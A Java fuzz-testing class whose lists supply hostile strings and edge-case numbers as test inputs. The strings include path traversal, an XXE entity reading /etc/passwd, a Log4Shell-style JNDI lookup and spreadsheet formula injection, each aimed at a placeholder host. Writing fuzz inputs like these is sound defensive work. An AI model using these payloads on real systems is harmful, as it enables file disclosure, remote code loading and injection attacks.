package org.parley.fuzz;

import java.math.BigDecimal;
import java.util.List;

/** What somebody who means ill, or a broken program, puts where a text or a number is asked for. */
final class Wild {

    /** Where nothing of the program may ever read or write; see {@link Footprints}. */
    static final String OUTSIDE = "parley-outside";

    /** Texts that somebody's spreadsheet, browser, terminal, shell or file system would take for more than a text. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "\u001b[2J",
            "../../../" + OUTSIDE,
            "..",
            ".",
            "/tmp/" + OUTSIDE,
            "C:\\" + OUTSIDE,
            "file:///etc/passwd",
            "con.json",
            "a/b",
            "=HYPERLINK(\"http://" + OUTSIDE + "\")",
            "@SUM(A1)",
            "+1",
            "-1+1",
            "\t=1",
            "\r=1",
            "a\n=1",
            "\",=1+1",
            "<b>",
            "]]>",
            "&xxe;",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "${jndi:ldap://" + OUTSIDE + "/a}",
            "%n%s%1000000000d",
            "{0}",
            "'{'",
            "\u202Eabc",
            "\uD800",
            "\uFFFF",
            "\uFEFF",
            "\uD83D\uDE00",
            "e\u0301\u0301\u0301",
            "NaN",
            "null",
            "a".repeat(990),
            "b".repeat(5000),
            "c ".repeat(2500),
            "\u0645\u0631\u062D\u0628\u0627");

    static final List<BigDecimal> NUMBERS = List.of(
            "0", "1", "-1", "0.5", "-0.0000001", "100", "100.0000001", "1e9", "3e9", "-3e9", "2147483647", "2147483648",
            "-2147483649", "9007199254740993", "1e-320", "1e-400", "1e308", "-1e308", "1e400", "-1e400", "0.30000000000000004",
            "36500", "36501", "1" + "0".repeat(380), "0." + "3".repeat(380)).stream().map(BigDecimal::new).toList();

    private Wild() {}

    static String text(Dice dice) {
        return dice.of(TEXTS);
    }

    static BigDecimal number(Dice dice) {
        return dice.of(NUMBERS);
    }
}
